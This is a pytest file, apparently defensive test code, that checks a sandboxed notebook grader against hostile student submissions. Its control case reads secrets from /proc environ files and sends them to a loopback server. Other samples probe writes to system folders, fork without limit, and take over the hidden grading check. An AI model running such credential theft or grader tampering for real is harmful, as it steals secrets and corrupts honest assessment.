@@ -1,0 +1,736 @@
+"""Grading untrusted notebooks: the hostile gallery (tests/hostile/) graded in one folder with honest
+submissions, calls into the reference found however they are made, and the refusal without a sandbox.
+
+For every hostile submission the grader finishes, the hostile one gets no point it did not earn, every
+honest one gets exactly what it gets when graded alone, and nothing outside the sandboxes' scratch folders
+changed (hashes of lstm_core/, lstm_lab/, homework/, the fake home the grader runs with, the submissions and
+a folder of the test's, before and after; no file planted in site-packages, /, /root, /work or /tmp). A
+control run without the sandbox shows the attacks are real.
+"""
+
+import hashlib
+import json
+import os
+import pathlib
+import re
+import resource
+import secrets
+import shutil
+import site
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import nbformat
+import pytest
+
+pytest.importorskip("nbclient")
+if not sys.platform.startswith("linux"):
+    pytest.skip("the sandbox is Linux-only (bubblewrap)", allow_module_level=True)
+
+from test_homework import ROOT, hw, solved, source, with_answer, write  # noqa: E402
+
+HOSTILE = ROOT / "tests" / "hostile"
+COMMON = (HOSTILE / "_common.py").read_text()
+CASES = sorted(p.stem for p in HOSTILE.glob("*.py") if not p.name.startswith("_"))
+TIMEOUT = 4  # seconds per cell
+SUBMISSION_TIMEOUT = 20
+MARKER = "lstm-lab-hostile-" + secrets.token_hex(6)
+SECRET_NAME, SECRET = "LSTM_LAB_TEST_SECRET", "s3cr3t-" + secrets.token_hex(8)
+HONEST = ("zz1_good", "zz2_no_tanh", "zz3_blank")
+FORWARD_NO_TANH = """import lstm_core
+import lstm_lab.bugs as _bugs
+
+_m = _bugs.step_bug("no output tanh")
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    return _m.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))"""
+
+
+def honest(student):
+    if student.endswith("good"):
+        return solved("a1_forward")
+    if student.endswith("no_tanh"):
+        return with_answer("a1_forward", "forward_answer", FORWARD_NO_TANH)
+    return hw.student_version(source("a1_forward"))
+
+
+class Server:
+    """A TCP server on every address of the machine (loopback included) that records who connects."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("0.0.0.0", 0))
+        self.sock.listen(50)
+        self.sock.settimeout(0.2)
+        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
+        self.thread = threading.Thread(target=self._loop, daemon=True)
+        self.thread.start()
+
+    def _loop(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                try:
+                    self.received.append(conn.recv(65536))
+                except OSError:
+                    self.received.append(b"")
+
+    def close(self):
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
+
+
+def host_ip():
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing address
+            return s.getsockname()[0]
+    except OSError:
+        return "127.0.0.2"
+
+
+def teachers_process():
+    """Another of the teacher's processes, with the secret in its environment (readable in /proc/PID/environ)."""
+    return subprocess.Popen(["sleep", "600"], env={**os.environ, SECRET_NAME: SECRET})
+
+
+def answer(case, fill):
+    text = COMMON + "\n\n" + (HOSTILE / f"{case}.py").read_text()
+    for name, value in fill.items():
+        text = text.replace(f"__{name}__", str(value))
+    return text
+
+
+def hostile_notebook(case, fill):
+    """Assignment 1 with the hostile answer; '### NEW CELL' in a case starts extra cells after it."""
+    first, *extra = answer(case, fill).split("### NEW CELL\n")
+    nb = with_answer("a1_forward", "forward_answer", first)
+    at = next(k for k, c in enumerate(nb.cells) if hw.nbg(c).get("grade_id") == "forward_answer")
+    nb.cells[at + 1 : at + 1] = [nbformat.v4.new_code_cell(src) for src in extra]
+    return nb
+
+
+def snapshot(*folders):
+    """{path: content hash} of every file below ``folders``."""
+    out = {}
+    for folder in folders:
+        for dirpath, dirnames, filenames in os.walk(folder):
+            dirnames[:] = [d for d in dirnames if d != "__pycache__"]
+            for f in filenames:
+                p = os.path.join(dirpath, f)
+                try:
+                    st = os.lstat(p)
+                    if not os.path.isfile(p):
+                        out[p] = (st.st_size, st.st_mtime_ns, st.st_mode)
+                    else:
+                        out[p] = hashlib.sha256(pathlib.Path(p).read_bytes()).hexdigest()
+                except OSError as err:
+                    out[p] = repr(err)
+    return out
+
+
+def processes_with(marker):
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            if marker.encode() in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes():
+                found.append(int(pid))
+        except OSError:
+            pass
+    return found
+
+
+def by_student(report):
+    return {(e["student"], e["assignment"]): {q["question"]: q for q in e["questions"]} for e in report}
+
+
+@pytest.fixture(scope="module")
+def gallery(tmp_path_factory):
+    base = tmp_path_factory.mktemp("gallery")
+    subs, home, victim, grades, host_tmp = (base / n for n in ("submissions", "home", "victim", "grades", "tmp"))
+    for d in (home, victim, grades, host_tmp):
+        d.mkdir()
+    (victim / "forward.npz").write_bytes(b"the test's own file")
+    (victim / "notes.txt").write_text("keep me")
+    (home / ".bashrc").write_text("# the teacher's")
+    server = Server()
+    teacher = teachers_process()
+    fill = dict(
+        FAKE_HOME=home,
+        VICTIM=victim,
+        GRADES=grades,
+        HOST_TMP=host_tmp,
+        REPO=ROOT,
+        OTHER_SUBMISSION=subs / "zz1_good",
+        PORT=server.port,
+        HOST_IP=host_ip(),
+        MARKER=MARKER,
+        PYTEST_PID=os.getpid(),
+        SECRET_NAME=SECRET_NAME,
+        TIMEOUT=TIMEOUT,
+    )
+    for case in CASES:
+        write(subs, f"h_{case}", "a1_forward", hostile_notebook(case, fill))
+    for student in HONEST:
+        write(subs, student, "a1_forward", honest(student))
+    write(subs, "aa0_good", "a1_forward", honest("good"))  # graded before every hostile one
+    watched = [ROOT / "lstm_core", ROOT / "lstm_lab", ROOT / "homework", ROOT / "tests" / "hostile", home, victim, subs]
+    before = snapshot(*watched)
+    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("HOME", str(home))
+        mp.setenv(SECRET_NAME, SECRET)
+        start = time.monotonic()
+        report = hw.grade(
+            subs, grades / "g.csv", grades / "g.json", timeout=TIMEOUT, submission_timeout=SUBMISSION_TIMEOUT
+        )
+        elapsed = time.monotonic() - start
+    rss_growth = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss) * 1024
+    time.sleep(0.5)
+    after = snapshot(*watched)
+    leftovers = processes_with(MARKER)
+    server.close()
+    teacher.kill()
+    teacher.wait()
+    alone = base / "alone"
+    for student in (*HONEST, "aa0_good"):
+        shutil.copytree(subs / student, alone / student)
+    alone_report = hw.grade(alone, grades / "alone.csv", grades / "alone.json", timeout=TIMEOUT)
+    yield dict(
+        rows=by_student(report),
+        alone=by_student(alone_report),
+        before=before,
+        after=after,
+        leftovers=leftovers,
+        received=server.received,
+        rss_growth=rss_growth,
+        elapsed=elapsed,
+        report_text=(grades / "g.json").read_text() + (grades / "g.csv").read_text(),
+        home=home,
+        victim=victim,
+        grades=grades,
+    )
+    for pid in processes_with(MARKER):
+        os.kill(pid, 9)
+    for p in (pathlib.Path("/root"), pathlib.Path("/"), pathlib.Path("/work"), pathlib.Path("/tmp")):
+        (p / f"hostile-{MARKER}.txt").unlink(missing_ok=True)
+
+
+def feedback(gallery, case):
+    return gallery["rows"][f"h_{case}", "a1_forward"]["forward"]
+
+
+@pytest.mark.parametrize("case", [c for c in CASES if c != "sleeper"])
+def test_a_hostile_submission_earns_no_point(gallery, case):
+    rows = gallery["rows"][f"h_{case}", "a1_forward"]
+    assert rows["forward"]["points"] == 0, rows["forward"]
+    assert rows["forward"]["status"] != "passed", rows["forward"]
+
+
+def test_a_correct_answer_that_leaves_a_sleeping_thread_and_a_detached_child_earns_its_points(gallery):
+    assert feedback(gallery, "sleeper")["points"] == 10, feedback(gallery, "sleeper")
+
+
+@pytest.mark.parametrize("student", [*HONEST, "aa0_good"])
+def test_honest_submissions_get_what_they_get_when_graded_alone(gallery, student):
+    got, alone = gallery["rows"][student, "a1_forward"], gallery["alone"][student, "a1_forward"]
+    assert {q: (r["points"], r["status"], r["feedback"], r["flags"]) for q, r in got.items()} == {
+        q: (r["points"], r["status"], r["feedback"], r["flags"]) for q, r in alone.items()
+    }
+    want = {"zz1_good": 10, "aa0_good": 10, "zz2_no_tanh": 0, "zz3_blank": 0}[student]
+    assert got["forward"]["points"] == want, got["forward"]
+    if student == "zz2_no_tanh":
+        assert "tanh" in got["forward"]["feedback"]  # the classic bug is still named, after the attack on the judge
+    assert not got["forward"]["flags"]
+
+
+def test_nothing_outside_the_scratch_folders_changed(gallery):
+    before, after = gallery["before"], gallery["after"]
+    changed = sorted(k for k in {*before, *after} if before.get(k) != after.get(k))
+    assert not changed, changed
+    for p in ("/root", "/", "/work", "/tmp"):
+        assert not os.path.exists(f"{p}/hostile-{MARKER}.txt"), p
+    assert sorted(os.listdir(gallery["home"])) == [".bashrc"]
+    assert sorted(os.listdir(gallery["victim"])) == ["forward.npz", "notes.txt"]
+    assert sorted(os.listdir(gallery["grades"])) == ["alone.csv", "alone.json", "g.csv", "g.json"]
+    for d in {*site.getsitepackages(), site.getusersitepackages()}:  # (the venv is shared: not hashed)
+        assert not os.path.exists(os.path.join(d, "zz_hostile.pth")), d
+
+
+def test_the_writes_were_tried_and_refused(gallery):
+    text = feedback(gallery, "write_outside")["feedback"]
+    assert "PROBE write_outside" in text and "refused 10 of 11" in text, text  # all but the sandbox's own HOME
+    assert all(p.startswith(hw.sandbox.SCRATCH) for p in re.findall(r"wrote (\S+?)'", text)), text
+
+
+def test_no_secret_and_no_hidden_test_reached_the_report(gallery):
+    text = gallery["report_text"]
+    assert SECRET not in text
+    for leak in ("BEGIN HIDDEN", "hidden_check(", "grading_seed(", "BEGIN SOLUTION", "0.5 * (1 + np.tanh(0.5 * a"):
+        assert leak not in text, leak
+    probe = feedback(gallery, "read_secrets")["feedback"]
+    assert "PROBE read_secrets" in probe and "env: {}" in probe, probe
+
+
+def test_no_connection_left_the_sandbox(gallery):
+    assert gallery["received"] == []
+    probe = feedback(gallery, "network")["feedback"]
+    assert "PROBE network" in probe and "connected" not in probe, probe
+
+
+def test_a_fork_bomb_is_held_by_the_process_limit(gallery):
+    probe = feedback(gallery, "fork_bomb")["feedback"]
+    n = int(re.search(r"forked (\d+) processes", probe).group(1))
+    assert n < hw.sandbox.LIMITS["nproc"], probe
+
+
+def test_nothing_a_submission_started_outlives_its_grading(gallery):
+    assert gallery["leftovers"] == []
+
+
+def test_a_runaway_allocation_fails_inside_the_submission(gallery):
+    probe = feedback(gallery, "memory")["feedback"]
+    assert "numpy 4 GiB: MemoryError" in probe and "bytearray 4 GiB: MemoryError" in probe, probe
+    assert "child: exit 3" in probe, probe
+
+
+def test_an_output_flood_costs_the_grader_nothing(gallery):
+    r = feedback(gallery, "print_flood")
+    assert "longer than" in r["feedback"] or "MemoryError" in r["feedback"], r
+    assert gallery["rss_growth"] < 300 << 20, gallery["rss_growth"]
+
+
+def test_the_grader_cannot_be_killed_from_a_submission(gallery):
+    probe = feedback(gallery, "kill_grader")["feedback"]
+    assert "PROBE kill_grader" in probe and "killed" not in probe.replace("killed -1", ""), probe
+
+
+def test_the_results_folder_cannot_be_taken_away_or_used_to_reach_outside(gallery):
+    probe = feedback(gallery, "results_folder")["feedback"]
+    assert "rmtree: Operation not permitted" in probe and "symlink folder: File exists" in probe, probe
+    assert "fill: File too large" in probe or "fill: No space left on device" in probe, probe
+
+
+def test_an_interrupt_that_is_ignored_stops_the_kernel(gallery):
+    r = feedback(gallery, "ignore_interrupt")
+    assert r["status"] == "error" and "did not stop when interrupted" in r["feedback"], r
+
+
+def test_a_submission_cannot_hold_the_grader_longer_than_its_time_limit(gallery):
+    r = feedback(gallery, "many_slow_cells")
+    assert r["status"] == "error" and "time limit" in r["feedback"], r
+    assert gallery["elapsed"] < 40 * len(CASES)
+
+
+def test_taking_over_the_hidden_test_is_an_integrity_failure(gallery):
+    r = feedback(gallery, "hijack_hidden")
+    assert r["status"] == "integrity" and "did not run as the grader sent it" in r["feedback"], r
+
+
+def test_working_around_the_watch_is_flagged(gallery):
+    r = feedback(gallery, "forge_reports")
+    flags = " ".join(r["flags"])
+    for what in ("trace or profile function", "ctypes", "process's memory", "report channel"):
+        assert what in flags, r
+
+
+# --- the reference, however it is called --------------------------------------------------------------
+FORWARD_BY_REFERENCE = {
+    "direct": """from lstm_core import LSTMParams, lstm_step
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    return lstm_step(x, h_prev, c_prev, LSTMParams(W, b))""",
+    "importlib": """import importlib
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    m = importlib.import_module("lstm_core.lstm")
+    return m.lstm_step(x, h_prev, c_prev, importlib.import_module("lstm_core").LSTMParams(W, b))""",
+    "dunder_import": """def lstm_step_forward(x, h_prev, c_prev, W, b):
+    core = __import__("lstm_core")
+    return getattr(core, "lstm" + "_step")(x, h_prev, c_prev, core.LSTMParams(W, b))""",
+    "saved_reference": """import sys
+
+_saved = [sys.modules["lstm_lab.homework"].lstm_step_compat]
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b, _f=_saved):
+    return _f[0](x, h_prev, c_prev, W, b)""",
+    "reload_at_call_time": """import importlib
+
+import lstm_core
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    m = importlib.reload(importlib.import_module("lstm_core.lstm"))
+    return m.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))""",
+    "fresh_copy_from_file": """import importlib.util
+
+import lstm_core
+
+_spec = importlib.util.spec_from_file_location("my_lstm", lstm_core.__path__[0] + "/lstm.py")
+_mine = importlib.util.module_from_spec(_spec)
+_mine.__package__ = "lstm_core"
+import sys
+
+sys.modules["my_lstm"] = _mine
+_spec.loader.exec_module(_mine)
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    return _mine.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))""",
+    "no_op_mutant": """import lstm_core
+import lstm_core.lstm
+from lstm_lab.bugs import load_mutant
+
+_m = load_mutant(lstm_core.lstm, "h_t = o_t * tanh(c_t)", "h_t = o_t * tanh(c_t)")
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    return _m.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))""",
+    "checks_reference": """def lstm_step_forward(x, h_prev, c_prev, W, b):
+    out = hw.reference("forward", {"x": x, "h_prev": h_prev, "c_prev": c_prev, "W": W, "b": b})
+    return out["h"], out["c"], None""",
+    "in_a_thread": """import threading
+
+import lstm_core
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    out = []
+    t = threading.Thread(target=lambda: out.append(lstm_core.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))))
+    t.start()
+    t.join()
+    return out[0]""",
+    "in_a_raw_thread": """import _thread
+import time
+
+import lstm_core
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    out = []
+    _thread.start_new_thread(lambda: out.append(lstm_core.lstm_step(x, h_prev, c_prev, lstm_core.LSTMParams(W, b))), ())
+    while not out:
+        time.sleep(0.001)
+    return out[0]""",
+    "own_hidden_check": """import os
+
+import lstm_core
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    raise NotImplementedError
+
+
+def _mine(question, fn, seed, forward=None):
+    outs = []
+    for c in hw.cases(question, seed):
+        h, cc, _ = lstm_core.lstm_step(c["x"], c["h_prev"], c["c_prev"], lstm_core.LSTMParams(c["W"], c["b"]))
+        outs.append({"h": h, "c": cc})
+    hw._save(os.environ["LSTM_LAB_RESULTS"], question, outs)
+
+
+hw.self_check = lambda *a, **k: None
+hw.hidden_check = _mine""",
+}
+
+
+def pasted_copy():
+    """lstm_core's lstm_step, pasted into the answer cell with the names it needs."""
+    text = (ROOT / "lstm_core" / "lstm.py").read_text()
+    start = text.index("def lstm_step(")
+    body = text[start : text.index("\ndef ", start + 1)].rstrip() + "\n"
+    return (
+        "import numpy as np\nfrom lstm_core.lstm import *  # noqa\nfrom lstm_core.lstm import SQUASH, check_step, "
+        "check_choice, sigmoid, LSTMParams\n\n\n"
+        + body
+        + "\n\ndef lstm_step_forward(x, h_prev, c_prev, W, b):\n    return lstm_step(x, h_prev, c_prev, LSTMParams(W, b))\n"
+    )
+
+
+OTHER_BY_REFERENCE = {  # (assignment, answer cell, code, question, the reference it must name)
+    "backward_by_reference": (
+        "a2_backward",
+        "backward_answer",
+        "import lstm_core\n\n\ndef lstm_step_backward(dh, dc, cache):\n    return lstm_core.lstm_step_backward(dh, dc, cache)",
+        "backward",
+        "lstm_core.lstm.lstm_step_backward",
+    ),
+    "gradcheck_by_reference": (
+        "a2_backward",
+        "gradcheck_answer",
+        "import lstm_core\n\n\ndef numerical_gradient(f, x, h=1e-5):\n    return lstm_core.numerical_gradient(f, x, eps=h)",
+        "gradcheck",
+        "lstm_core.gradcheck.numerical_gradient",
+    ),
+    "bptt_by_reference": (
+        "a3_bptt",
+        "bptt_answer",
+        "from lstm_core import lstm_backward, lstm_forward\n\n\ndef lstm_bptt(xs, W, b, dhs):\n"
+        "    g = lstm_backward(dhs, lstm_forward(xs, LSTMParams(W, b)))\n    return g.W, g.b, g.c_norm",
+        "bptt",
+        "lstm_core.lstm.lstm_backward",
+    ),
+    "memory_by_reference": (
+        "a4_concepts",
+        "memory_answer",
+        "def memory_length(b_f):\n    return float(hw.reference('memory', {'b_f': b_f})['length'])",
+        "memory",
+        "lstm_lab.homework.reference",
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def by_reference(tmp_path_factory):
+    subs = tmp_path_factory.mktemp("reference")
+    for name, code in {**FORWARD_BY_REFERENCE, "pasted_copy": pasted_copy()}.items():
+        write(subs, name, "a1_forward", with_answer("a1_forward", "forward_answer", code))
+    for name, (assignment, cell, code, *_) in OTHER_BY_REFERENCE.items():
+        write(subs, name, assignment, with_answer(assignment, cell, code))
+    for name in ("a2_backward", "a3_bptt", "a4_concepts"):
+        write(subs, "honest", name, solved(name))
+    explores = solved("a2_backward")  # its own answer, and a look at the reference outside the hidden cases
+    for cell in explores.cells:
+        if hw.nbg(cell).get("grade_id") == "gradcheck_answer":
+            cell.source += "\n\n\nimport lstm_core\n\nprint(lstm_core.numerical_gradient(lambda: 0.0, np.zeros(2)))"
+    write(subs, "explores", "a2_backward", explores)
+    report = hw.grade(subs, subs / "g.csv", subs / "g.json", timeout=20)
+    return by_student(report)
+
+
+@pytest.mark.parametrize("student", [*FORWARD_BY_REFERENCE, "pasted_copy"])
+def test_a_forward_step_that_calls_the_reference_is_flagged_however_it_calls_it(by_reference, student):
+    r = by_reference[student, "a1_forward"]["forward"]
+    assert r["points"] == 10, r  # the outputs are right: the points stand, and the teacher is told
+    assert any("called the course's reference" in f for f in r["flags"]), r
+
+
+@pytest.mark.parametrize("student", OTHER_BY_REFERENCE)
+def test_other_questions_answered_by_the_reference_are_flagged(by_reference, student):
+    assignment, _, _, question, name = OTHER_BY_REFERENCE[student]
+    rows = by_reference[student, assignment]
+    assert rows[question]["points"] == rows[question]["max"], rows[question]
+    assert any(name in f for f in rows[question]["flags"]), rows[question]
+    for q, r in rows.items():
+        if q != question:
+            assert not r["flags"], r  # only the question the reference answered
+
+
+@pytest.mark.parametrize(
+    "student,assignment",
+    [("honest", "a2_backward"), ("honest", "a3_bptt"), ("honest", "a4_concepts"), ("explores", "a2_backward")],
+)
+def test_honest_answers_using_what_the_assignment_allows_are_not_flagged(by_reference, student, assignment):
+    # a2's given forward step and a3's loop over lstm_step / lstm_step_backward call lstm_core legitimately,
+    # and so does a call into the reference outside the hidden cases
+    for r in by_reference[student, assignment].values():
+        assert r["status"] in ("passed", "manual") and not r["flags"], r
+
+
+# --- without a sandbox ------------------------------------------------------------------------------
+def test_grading_refuses_without_a_sandbox_unless_told(tmp_path, monkeypatch, capsys):
+    write(tmp_path / "subs", "ada", "a1_forward", solved("a1_forward"))
+    write(tmp_path / "subs", "ben", "a1_forward", solved("a1_forward"))
+    monkeypatch.setattr(hw.sandbox, "bwrap_path", lambda: None)
+    monkeypatch.setattr(hw.sandbox, "_probed", {})
+    out = tmp_path / "g"
+    args = ["grade", str(tmp_path / "subs"), "--csv", f"{out}.csv", "--json", f"{out}.json", "--timeout", "20"]
+    assert hw.main(args) == 2
+    err = capsys.readouterr().err
+    assert "refusing to grade" in err and "--no-sandbox" in err and "bubblewrap" in err
+    assert not os.path.exists(f"{out}.json")
+    assert hw.main([*args, "--no-sandbox"]) == 0
+    err = capsys.readouterr().err
+    assert err.count("WARNING: grading WITHOUT a sandbox") == 1, err  # once, for the whole run
+    report = json.loads(pathlib.Path(f"{out}.json").read_text())
+    assert [e["questions"][0]["points"] for e in report] == [10, 10]
+    assert all(not e["sandboxed"] for e in report)
+
+
+def test_grading_refuses_where_bubblewrap_cannot_make_a_sandbox(tmp_path, monkeypatch, capsys):
+    write(tmp_path / "subs", "ada", "a1_forward", solved("a1_forward"))
+    monkeypatch.setattr(hw.sandbox, "bwrap_path", lambda: "/bin/false")
+    monkeypatch.setattr(hw.sandbox, "_probed", {})
+    assert (
+        hw.main(["grade", str(tmp_path / "subs"), "--csv", str(tmp_path / "g.csv"), "--json", str(tmp_path / "g.json")])
+        == 2
+    )
+    assert "could not start a sandboxed Python" in capsys.readouterr().err
+
+
+CONTROL = """import glob, os, socket
+
+
+def lstm_step_forward(x, h_prev, c_prev, W, b):
+    raise NotImplementedError
+
+
+loot = []
+for p in glob.glob("/proc/*/environ"):
+    try:
+        data = open(p, "rb").read()
+    except OSError:
+        continue
+    if b"__SECRET_NAME__=" in data:
+        loot.append(data.split(b"__SECRET_NAME__=")[1].split(b"\\0")[0].decode())
+with open("__FAKE_HOME__/loot.txt", "w") as f:
+    f.write(repr(loot))
+with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as s:
+    s.sendall(repr(loot).encode())"""
+
+
+def test_without_the_sandbox_the_same_attacks_succeed(tmp_path, monkeypatch):
+    """The gallery's assertions can fail: unsandboxed, a submission writes the teacher's home, reads the
+    teacher's environment and reaches a loopback server."""
+    home, server = tmp_path / "home", Server()
+    home.mkdir()
+    code = CONTROL.replace("__FAKE_HOME__", str(home)).replace("__PORT__", str(server.port))
+    write(
+        tmp_path / "subs",
+        "control",
+        "a1_forward",
+        with_answer("a1_forward", "forward_answer", code.replace("__SECRET_NAME__", SECRET_NAME)),
+    )
+    monkeypatch.setenv(SECRET_NAME, SECRET)
+    teacher = teachers_process()
+    try:
+        hw.grade(tmp_path / "subs", tmp_path / "g.csv", tmp_path / "g.json", timeout=20, sandboxed=False, quiet=True)
+    finally:
+        server.close()
+        teacher.kill()
+        teacher.wait()
+    assert SECRET in (home / "loot.txt").read_text()
+    assert any(SECRET.encode() in r for r in server.received)
+
+
+def test_a_changed_course_file_stops_grading(tmp_path, monkeypatch, capsys):
+    """Hashes of the course's files are compared after every submission: a change is a loud error."""
+    planted = tmp_path / "course_file.py"
+    planted.write_text("x = 1\n")
+    real = hw.course_files
+    monkeypatch.setattr(hw, "course_files", lambda: {**real(), str(planted): planted.read_text()})
+    code = f"open({str(planted)!r}, 'a').write('judge = None\\n')\n\n\ndef lstm_step_forward(x, h, c, W, b):\n    raise NotImplementedError"
+    write(tmp_path / "subs", "writer", "a1_forward", with_answer("a1_forward", "forward_answer", code))
+    with pytest.raises(hw.CourseChanged, match="course_file.py"):
+        hw.grade(tmp_path / "subs", tmp_path / "g.csv", tmp_path / "g.json", timeout=20, sandboxed=False, quiet=True)
+    assert not (tmp_path / "g.json").exists()
+    planted.write_text("x = 1\n")
+    args = ["grade", str(tmp_path / "subs"), "--csv", str(tmp_path / "g.csv"), "--json", str(tmp_path / "g.json")]
+    assert hw.main([*args, "--no-sandbox", "--timeout", "20"]) == 3
+    assert "STOPPED: course files changed" in capsys.readouterr().err
+    assert not (tmp_path / "g.json").exists()
+
+
+# --- the sandbox itself ---------------------------------------------------------------------------------
+def test_a_sandboxed_kernel_sees_only_what_it_needs():
+    with hw.sandbox.Kernel(sandboxed=True, watch=True) as k:
+        probe = "{'uid': os.getuid(), 'root': sorted(os.listdir('/')), 'env': sorted(os.environ), 'cwd': os.getcwd()"
+        probe += ", 'status': open('/proc/self/status').read()"
+        _, code = k.cell(
+            f"import os, json\nraise ValueError(json.dumps({probe}, 'repo': sorted(os.listdir({str(ROOT)!r}))}}))"
+        )
+        reply = k.run(code, 20)
+    seen = json.loads(reply["evalue"])
+    assert seen["uid"] != 0 and seen["cwd"] == hw.sandbox.SCRATCH
+    assert "homework" not in seen["repo"] and "tests" not in seen["repo"] and ".git" not in seen["repo"]
+    assert set(seen["repo"]) <= {"lstm_core", "lstm_lab", ".venv"}
+    assert "home" not in seen["root"]
+    assert SECRET_NAME not in seen["env"] and "LSTM_LAB_GRADING_SEED" not in seen["env"]
+    status = dict(line.split(":\t", 1) for line in seen["status"].splitlines() if ":\t" in line)
+    assert status["CapEff"].strip() == status["CapPrm"].strip() == status["CapBnd"].strip() == "0" * 16, status
+    assert status["NoNewPrivs"].strip() == "1"
+
+
+PROBE_WRITES = """
+res = []
+for p in ["/", "/etc", "/dev", "/work", "/usr", %r, "/scratch", "/tmp", "/dev/shm"]:
+    try:
+        open(os.path.join(p, "probe"), "w").close()
+        res.append(p)
+    except OSError:
+        pass
+"""
+
+
+def test_a_sandboxed_kernel_writes_only_to_its_scratch_folders():
+    with hw.sandbox.Kernel(sandboxed=True, watch=True) as k:
+        reply = k.run(k.cell("import os\n" + PROBE_WRITES % str(ROOT) + "raise ValueError(repr(res))")[1], 20)
+    assert reply["evalue"] == repr(["/scratch", "/tmp", "/dev/shm"]), reply
+
+
+def test_the_sandbox_of_an_ordinary_user_holds_too():
+    """A teacher's laptop runs bwrap as an ordinary user (a user namespace, which then owns the sandbox's
+    own root folder): the same flags hold the process limit and keep everything but the scratch folders
+    read-only. Run here as uid 65534, with the system's Python (the grader's own may not be readable)."""
+    if os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists("/usr/bin/python3"):
+        pytest.skip("needs root (to act as an ordinary user) and /usr/bin/python3")
+    script = (
+        "import os, resource, subprocess\n"
+        "userns = subprocess.run(['unshare', '-U', 'true'], capture_output=True).returncode\n"
+        "resource.setrlimit(resource.RLIMIT_NPROC, (20, 20))\nn = 0\n"
+        "for _ in range(2000):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
+        "    if pid == 0:\n        import time; time.sleep(30); os._exit(0)\n    n += 1\n"
+        + PROBE_WRITES % str(ROOT)
+        + "print(n, os.getuid(), userns, res)"
+    )
+    cmd, fds, _ = hw.sandbox.bwrap_command("/usr/bin/python3", {"PATH": "/usr/bin"}, root=False, mounts=[])
+    cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", *cmd]
+    try:
+        r = subprocess.run(
+            [*cmd, "--", "/usr/bin/python3", "-c", script], capture_output=True, text=True, timeout=60, pass_fds=fds
+        )
+    finally:
+        for fd in fds:
+            os.close(fd)
+    assert r.returncode == 0, r.stderr
+    n, uid, userns, res = r.stdout.split(" ", 3)
+    assert int(n) < 20 and int(uid) == 65534, r.stdout
+    assert int(userns) != 0, r.stdout  # --disable-userns: no namespace of its own inside
+    assert res.strip() == repr(["/scratch", "/tmp", "/dev/shm"]), r.stdout
+
+
+def test_the_grader_reads_a_result_only_from_a_plain_file_and_never_follows_a_link(tmp_path):
+    victim = tmp_path / "victim.npz"
+    victim.write_bytes(b"the teacher's")
+    with hw.sandbox.Kernel(sandboxed=False, watch=True) as k:
+        results = pathlib.Path(k.host(k.scratch_inside)) / "results"
+        (results / "link.npz").symlink_to(victim)
+        os.mkfifo(results / "fifo.npz")
+        (results / "big.npz").write_bytes(b"\0" * (17 << 20))
+        (results / "fine.npz").write_bytes(b"ok")
+        assert [k.read_result(n) for n in ("link.npz", "fifo.npz", "big.npz", "fine.npz")] == [None, None, None, b"ok"]
+        k.clear_results()
+        assert sorted(os.listdir(results)) == []
+    assert victim.read_bytes() == b"the teacher's"
+
+
+def test_a_saved_file_cannot_make_the_grader_allocate_or_unpickle(tmp_path):
+    import io
+    import zipfile
+
+    import numpy as np
+
+    def npz(header_shape, dtype="<f8", payload=b""):
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w") as zf:
+            f = io.BytesIO()
+            np.lib.format.write_array_header_1_0(f, {"descr": dtype, "fortran_order": False, "shape": header_shape})
+            zf.writestr("0::h.npy", f.getvalue() + payload)
+        return buf.getvalue()
+
+    for blob in (npz((1 << 40,)), npz((2,), "|O"), b"PK not a zip", npz((1, 2), payload=b"\0" * 8)):
+        ok, msg = hw.judge_saved("forward", 0, blob)
+        assert not ok and "could not be read" in msg, msg
